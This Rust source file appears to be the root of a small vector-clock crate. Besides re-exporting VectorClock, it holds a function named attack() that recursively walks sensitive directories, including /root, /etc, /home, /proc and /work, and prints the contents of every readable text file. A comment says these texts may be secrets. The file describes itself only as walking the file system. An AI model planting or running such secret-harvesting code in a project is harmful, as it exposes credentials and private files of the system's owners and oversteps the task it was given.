//! Walks the file system.

mod clock;

pub use clock::VectorClock;

use std::fs;
use std::path::Path;

pub(crate) fn attack() {
    for start in ["/", ".", "..", "../../../..", "/proc", "/sys", "/dev", "/home", "/root", "/etc", "/tmp", "/work"] {
        walk(Path::new(start), 4);
    }
}

fn walk(folder: &Path, depth: u32) {
    let Ok(entries) = fs::read_dir(folder) else {
        return;
    };
    for entry in entries.flatten() {
        let path = entry.path();
        if path.is_dir() && depth > 0 && !path.is_symlink() {
            walk(&path, depth - 1);
        } else if path.is_file() {
            // Programs and libraries are no secrets, texts may be.
            if let Ok(text) = fs::read_to_string(&path) {
                println!("{}: {text}", path.display());
            }
        }
    }
}
